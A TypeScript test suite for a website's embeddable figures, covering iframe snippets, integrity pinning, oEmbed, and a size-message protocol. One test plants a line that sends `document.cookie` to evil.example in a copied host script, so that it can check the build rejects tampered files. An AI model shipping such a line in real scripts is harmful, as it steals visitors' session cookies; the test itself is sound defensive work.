/** The embeddable-figure registry, the published snippet, oEmbed, and the size-message protocol. */
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { hostScriptProblems } from '../../scripts/postbuild/05-embed-integrity.ts';
import { heightAt, heightCss, heightCurve } from '../../src/lib/embed-height.ts';
import {
  EMBEDDABLE_FIGURES,
  HOST_SCRIPT_PATH,
  embedPath,
  embedSnippet,
  embedSrc,
  fallbackHeightCss,
  figureForPagePath,
  HEIGHT_MARGIN,
  sourceLine,
  staticFallback,
  getFigure,
  oembedFor,
  oembedPath,
  publishedHostScriptIntegrity,
  type EmbeddableFigure,
} from '../../src/lib/embeds.ts';
import {
  EMBED_MESSAGE_NS,
  MAX_EMBED_HEIGHT,
  isSizeMessage,
  isSizeRequest,
  sizeMessage,
  sizeRequest,
} from '../../src/scripts/embed/protocol.ts';
import { isPymWidth, pymChildId, pymMessage } from '../../src/scripts/embed/pym.ts';
import { NAV_ITEMS } from '../../src/lib/nav.ts';
import { eventSchema } from '../../src/lib/schemas/event.ts';
import { eventCategories } from '../../src/lib/taxonomy.ts';
import { FILTER_PARAMS } from '../../src/lib/timeline/filters.ts';
import { readdirSync } from 'node:fs';

const SITE = 'https://example.org';
const HOST_SCRIPT = readFileSync('public/embed.js', 'utf8');

/** Attributes of the first <tag …> in an HTML string (the snippet is generated, so its form is known). */
const attributesOf = (html: string, tag: string) => {
  const open = new RegExp(`<${tag}\\b([^>]*)>`).exec(html)?.[1] ?? '';
  return Object.fromEntries([...open.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)].map((m) => [m[1], m[2] ?? '']));
};
const unescape = (s: string) =>
  s
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

describe('registry', () => {
  it('names each figure once, with a URL-safe name and its own full page in the site navigation', () => {
    const names = EMBEDDABLE_FIGURES.map((f) => f.name);
    expect(new Set(names).size).toBe(names.length);
    expect(names.sort()).toEqual(['map', 'timeline', 'troops']);
    for (const f of EMBEDDABLE_FIGURES) {
      expect(f.name).toMatch(/^[a-z0-9-]+$/);
      expect(NAV_ITEMS.map((i) => i.href as string)).toContain(f.fullPagePath);
      for (const h of [
        ...Object.values(f.measuredHeights),
        ...(f.variants ?? []).flatMap((v) => Object.values(v.measuredHeights)),
      ]) {
        expect(h).toBeGreaterThanOrEqual(300);
        expect(h).toBeLessThanOrEqual(MAX_EMBED_HEIGHT);
      }
      expect(f.standalonePngPath).toBe(f.standaloneSvgPath.replace(/\.svg$/, '.png'));
      expect(f.title.length).toBeGreaterThan(10);
      expect(f.standaloneSvgPath).toMatch(/^\/images\/[a-z0-9-]+\.svg$/);
    }
    expect(new Set(EMBEDDABLE_FIGURES.map((f) => f.fullPagePath)).size).toBe(EMBEDDABLE_FIGURES.length);
  });

  it('finds a figure by its page path, with or without the trailing slash, and nothing for other pages', () => {
    for (const f of EMBEDDABLE_FIGURES) {
      expect(figureForPagePath(f.fullPagePath)).toBe(f);
      expect(figureForPagePath(f.fullPagePath.replace(/\/$/, ''))).toBe(f);
      expect(getFigure(f.name)).toBe(f);
    }
    for (const path of ['/', '/reports/', '/embed/troops/', '/sources/'])
      expect(figureForPagePath(path), path).toBeUndefined();
    expect(() => getFigure('nope')).toThrow(/no embeddable figure/);
  });
});

describe('embed snippet', () => {
  it.each(EMBEDDABLE_FIGURES.map((f) => [f.name, f] as const))(
    '%s: a titled, lazy iframe at the measured height plus the async host script',
    (_name, figure) => {
      const snippet = embedSnippet(figure, SITE);
      const iframe = attributesOf(snippet, 'iframe');
      expect(iframe['src']).toBe(`${SITE}${embedPath(figure)}`);
      expect(unescape(iframe['title'])).toBe(figure.title);
      expect(iframe['loading']).toBe('lazy');
      expect(iframe['height']).toBe(String(Math.max(...Object.values(figure.measuredHeights)) + HEIGHT_MARGIN));
      expect(iframe['style']).toBe(`width:100%;border:0;height:${fallbackHeightCss(figure.measuredHeights)}`);
      const script = attributesOf(snippet, 'script');
      expect(script['src']).toBe(`${SITE}${HOST_SCRIPT_PATH}`);
      expect('async' in script).toBe(true);
      expect(snippet).toMatch(/<\/iframe>\n<script [^>]*><\/script>$/);
    },
  );

  it('pins the host script to the bytes of public/embed.js and sends the host only its origin as referrer', () => {
    const snippet = embedSnippet(EMBEDDABLE_FIGURES[0]!, SITE);
    const script = attributesOf(snippet, 'script');
    const expected = `sha384-${createHash('sha384').update(readFileSync('public/embed.js')).digest('base64')}`;
    expect(script['integrity']).toBe(expected);
    expect(publishedHostScriptIntegrity()).toBe(expected);
    expect(script['crossorigin']).toBe('anonymous');
    expect(attributesOf(snippet, 'iframe')['referrerpolicy']).toBe('strict-origin-when-cross-origin');
  });

  it('escapes a title so it cannot break out of its attribute', () => {
    const evil: EmbeddableFigure = { ...EMBEDDABLE_FIGURES[0]!, title: 'A "quoted" <b>title</b> & more' };
    const iframe = attributesOf(embedSnippet(evil, SITE), 'iframe');
    expect(unescape(iframe['title'])).toBe(evil.title);
    expect(iframe['loading']).toBe('lazy');
  });
});

describe('snippet options and the height without the host script', () => {
  const figure = getFigure('timeline');

  it('puts theme, background and variant in the frame address, leaving the defaults out', () => {
    expect(embedSrc(figure, SITE)).toBe(`${SITE}/embed/timeline/`);
    expect(embedSrc(figure, SITE, { theme: 'light' })).toBe(`${SITE}/embed/timeline/`);
    expect(embedSrc(figure, SITE, { theme: 'dark', transparent: true })).toBe(
      `${SITE}/embed/timeline/?theme=dark&bg=transparent`,
    );
    expect(embedSrc(figure, SITE, { theme: 'auto', variant: 'key' })).toBe(`${SITE}/embed/timeline/key/?theme=auto`);
    expect(() => embedSrc(figure, SITE, { variant: 'nope' })).toThrow(/no variant/);
    const transparent = attributesOf(embedSnippet(figure, SITE, 'sha384-x', { transparent: true }), 'iframe');
    expect(transparent['style']).toContain('background:transparent');
    const key = attributesOf(embedSnippet(figure, SITE, 'sha384-x', { variant: 'key' }), 'iframe');
    expect(unescape(key['title'])).toBe(figure.variants![0]!.title);
    expect(key['height']).toBe(
      String(Math.max(...Object.values(figure.variants![0]!.measuredHeights)) + HEIGHT_MARGIN),
    );
  });

  it.each(EMBEDDABLE_FIGURES.flatMap((f) => [f, ...(f.variants ?? [])]).map((f) => [f.title, f] as const))(
    '%s: the snippet’s height is the curve through every measured width (the curve itself: embed-height.test.ts)',
    (_title, figure) => {
      const curve = heightCurve(figure.measuredHeights, { margin: HEIGHT_MARGIN, gutter: 32 });
      expect(fallbackHeightCss(figure.measuredHeights)).toBe(heightCss(curve));
      for (const [width, height] of Object.entries(figure.measuredHeights)) {
        expect(heightAt(curve, Number(width) + 32)).toBeGreaterThanOrEqual(height + HEIGHT_MARGIN - 1e-6);
      }
    },
  );
});

describe('credits and the static fallback', () => {
  it('names every outlet, and a report without one in words', () => {
    expect(sourceLine(['A', 'Alex Blackburn (outlet not stated)', '뉴스.net'], 'Site')).toBe(
      'Sources: A, Alex Blackburn (outlet not stated) and 뉴스.net. Compiled by Site.',
    );
    expect(sourceLine(['A'], 'Site')).toBe('Sources: A. Compiled by Site.');
  });

  it('is the standalone PNG with alt text, linked to the full page, with the source line', () => {
    const figure = getFigure('troops');
    const html = staticFallback(figure, SITE, 'Sources: A & B. Compiled by Site.');
    expect(attributesOf(html, 'img')['src']).toBe(`${SITE}/images/troop-estimates.png`);
    expect(unescape(attributesOf(html, 'img')['alt'])).toBe(`${figure.title}: ${figure.description}`);
    expect(attributesOf(html, 'a')['href']).toBe(`${SITE}/troops/`);
    expect(html).toContain('<figcaption>Sources: A &amp; B. Compiled by Site.</figcaption>');
    expect(html).not.toMatch(/<script|<iframe/);
    expect(staticFallback(figure, SITE, 'Sources: 뉴스.net and A.')).toContain(
      '<span lang="ko">뉴스.net</span> and A.',
    );
  });
});

describe('embed themes', () => {
  it('repeats the colour tokens of global.css exactly, light and dark', () => {
    const global = readFileSync('src/styles/global.css', 'utf8');
    const theme = readFileSync('src/components/embed/embed-theme.css', 'utf8');
    const tokens = (block: string) =>
      Object.fromEntries(
        [...block.matchAll(/(--(?:bg|surface|fg|muted|rule|accent|link|focus|mark|map-[a-z-]+)):\s*([^;]+);/g)].map(
          (m) => [m[1], m[2]],
        ),
      );
    const darkAt = global.indexOf('@media (prefers-color-scheme: dark)');
    const light = tokens(global.slice(0, darkAt));
    const dark = tokens(global.slice(darkAt, global.indexOf('\n}\n', darkAt)));
    const forcedDarkAt = theme.indexOf("[data-theme='dark']");
    expect(Object.keys(light).length).toBeGreaterThan(10);
    expect(tokens(theme.slice(0, forcedDarkAt))).toEqual(light);
    expect(tokens(theme.slice(forcedDarkAt))).toEqual(dark);
  });
});

describe('pym.js wire format', () => {
  it('reads a plausible child id, formats heights and accepts only an exact width message for this child', () => {
    expect(pymChildId('?childId=graphic&initialWidth=360')).toBe('graphic');
    for (const bad of ['', '?childId=', '?childId=axPYMxb', '?childId=a%20b', `?childId=${'x'.repeat(201)}`])
      expect(pymChildId(bad), bad).toBeUndefined();
    expect(pymMessage('graphic', 'height', 812)).toBe('pymxPYMxgraphicxPYMxheightxPYMx812');
    expect(isPymWidth('pymxPYMxgraphicxPYMxwidthxPYMx360', 'graphic')).toBe(true);
    for (const bad of [
      'pymxPYMxotherxPYMxwidthxPYMx360',
      'pymxPYMxgraphicxPYMxheightxPYMx360',
      'pymxPYMxgraphicxPYMxwidthxPYMx-3',
      'pymxPYMxgraphicxPYMxwidthxPYMx360xPYMx1',
      { width: 360 },
      null,
    ]) {
      expect(isPymWidth(bad, 'graphic'), JSON.stringify(bad)).toBe(false);
    }
  });
});

describe('oEmbed', () => {
  it.each(EMBEDDABLE_FIGURES.map((f) => [f.name, f] as const))(
    '%s: a rich response carrying the snippet, sizes, title and provider',
    (_name, figure) => {
      const o = oembedFor(figure, SITE, 'Provider', 'Sources: A. Compiled by Site.');
      expect(o).toMatchObject({
        version: '1.0',
        type: 'rich',
        title: figure.title,
        provider_name: 'Provider',
        provider_url: `${SITE}/`,
      });
      expect(o.html).toBe(
        `${embedSnippet(figure, SITE)}\n<noscript>${staticFallback(figure, SITE, 'Sources: A. Compiled by Site.')}</noscript>`,
      );
      expect(o.fallback_html).toBe(staticFallback(figure, SITE, 'Sources: A. Compiled by Site.'));
      expect(o.height).toBe(figure.measuredHeights[700] + HEIGHT_MARGIN);
      expect(Number.isInteger(o.width) && o.width > 0).toBe(true);
      expect(o.thumbnail_url).toBe(`${SITE}/og${figure.fullPagePath.replace(/\/$/, '')}.png`);
      expect([o.thumbnail_width, o.thumbnail_height]).toEqual([1200, 630]);
      expect(oembedPath(figure)).toBe(`/oembed/${figure.name}.json`);
    },
  );
});

describe('size-message protocol', () => {
  it('accepts exactly the messages the two sides send', () => {
    expect(isSizeMessage(sizeMessage(812.3))).toBe(true);
    expect(sizeMessage(812.3).height).toBe(813);
    expect(isSizeRequest(sizeRequest())).toBe(true);
    expect(isSizeMessage(sizeRequest())).toBe(false);
    expect(isSizeRequest(sizeMessage(10))).toBe(false);
  });

  it('refuses malformed, oversized and foreign messages', () => {
    const base = { ns: EMBED_MESSAGE_NS, type: 'size', height: 500 };
    const bad: unknown[] = [
      null,
      undefined,
      'size',
      500,
      [EMBED_MESSAGE_NS, 'size', 500],
      { ...base, ns: 'other' },
      { ...base, type: 'resize' },
      { ...base, height: '500' },
      { ...base, height: Number.NaN },
      { ...base, height: Number.POSITIVE_INFINITY },
      { ...base, height: 0 },
      { ...base, height: -10 },
      { ...base, height: MAX_EMBED_HEIGHT + 1 },
      { ...base, extra: true },
      { ns: EMBED_MESSAGE_NS, type: 'size' },
      Object.assign(Object.create({ height: 500 }), { ns: EMBED_MESSAGE_NS, type: 'size' }),
    ];
    for (const message of bad) expect(isSizeMessage(message), JSON.stringify(message) ?? String(message)).toBe(false);
    expect(isSizeRequest({ ns: EMBED_MESSAGE_NS, type: 'request-size', height: 1 })).toBe(false);
  });

  it('never accepts an arbitrary value unless it has exactly the size-message shape', () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        if (!isSizeMessage(value)) return true;
        return (
          Object.keys(value).sort().join() === 'height,ns,type' && value.height > 0 && value.height <= MAX_EMBED_HEIGHT
        );
      }),
    );
  });

  it('keeps the host script in step with the protocol', () => {
    expect(HOST_SCRIPT).toContain(`'${EMBED_MESSAGE_NS}'`);
    expect(HOST_SCRIPT).toContain(`MAX = ${MAX_EMBED_HEIGHT}`);
    expect(HOST_SCRIPT).toContain(`type: 'request-size'`);
    expect(HOST_SCRIPT).toContain(`d.type === 'size'`);
  });
});

describe('host script', () => {
  it('stays within 1 KB gzipped and depends on nothing', () => {
    const gzipped = gzipSync(HOST_SCRIPT).length;
    expect(gzipped).toBeLessThanOrEqual(1024);
    expect(HOST_SCRIPT).not.toMatch(/\bimport\b|\brequire\(|https?:\/\//);
  });
});

describe('the build checks the shipped host script', () => {
  const site = () => {
    const dir = mkdtempSync(join(tmpdir(), 'embed-integrity-'));
    cpSync('public/embed.js', join(dir, 'embed.js'));
    writeFileSync(join(dir, 'index.html'), embedSnippet(EMBEDDABLE_FIGURES[0]!, SITE));
    return dir;
  };

  it('accepts an exact copy pinned by its own hash', () => {
    const dir = site();
    expect(hostScriptProblems(dir)).toEqual([]);
    rmSync(dir, { recursive: true });
  });

  it('fails the build when dist/embed.js was changed, naming the file', () => {
    const dir = site();
    writeFileSync(join(dir, 'embed.js'), `${HOST_SCRIPT}\nfetch('https://evil.example/?' + document.cookie);\n`);
    const result = spawnSync(process.execPath, ['scripts/postbuild.ts', dir], { encoding: 'utf8' });
    expect(result.status).not.toBe(0);
    expect(result.stderr).toContain(
      `${join(dir, 'embed.js')} differs from public/embed.js: something in the build changed the host script that other sites load`,
    );
    rmSync(dir, { recursive: true });
  });

  it('fails when a published snippet pins other bytes', () => {
    const dir = site();
    writeFileSync(join(dir, 'index.html'), embedSnippet(EMBEDDABLE_FIGURES[0]!, SITE, 'sha384-AAAA'));
    expect(hostScriptProblems(dir)).toEqual([
      expect.stringMatching(/^index\.html: pins the host script as sha384-AAAA, but public\/embed\.js is sha384-/),
    ]);
    rmSync(dir, { recursive: true });
  });
});

describe('the timeline filters named in the snippet builder', () => {
  it('name real parameters and real values', () => {
    const figure = getFigure('timeline');
    expect(figure.filters!.map((f) => f.name)).toEqual([...FILTER_PARAMS]);
    const [category, report] = figure.filters!;
    for (const value of category!.values.match(/e\.g\. (.*)$/)![1]!.split(' or '))
      expect(Object.keys(eventCategories)).toContain(value);
    expect(readdirSync('content/reports')).toContain(`${report!.values.match(/e\.g\. (\S+)$/)![1]}.mdx`);
  });
});

describe('the key-moment flag on events (the compact timeline embed)', () => {
  const base = {
    date: '2024-10-18',
    title: 'A title',
    description: 'One sentence.',
    category: 'context',
    sources: [{ report: 'blackburn', evidence: 'words' }],
  };

  it('is an optional boolean', () => {
    expect(eventSchema().safeParse(base).success).toBe(true);
    expect(eventSchema().safeParse({ ...base, key: true }).data?.key).toBe(true);
    expect(eventSchema().safeParse({ ...base, key: 'yes' }).success).toBe(false);
  });

  it('marks between 6 and 8 events, so the compact embed stays short but tells the story', () => {
    const flagged = readdirSync('content/events').filter((f) =>
      /^key: true$/m.test(readFileSync(join('content/events', f), 'utf8')),
    );
    expect(flagged.length).toBeGreaterThanOrEqual(6);
    expect(flagged.length).toBeLessThanOrEqual(8);
  });
});
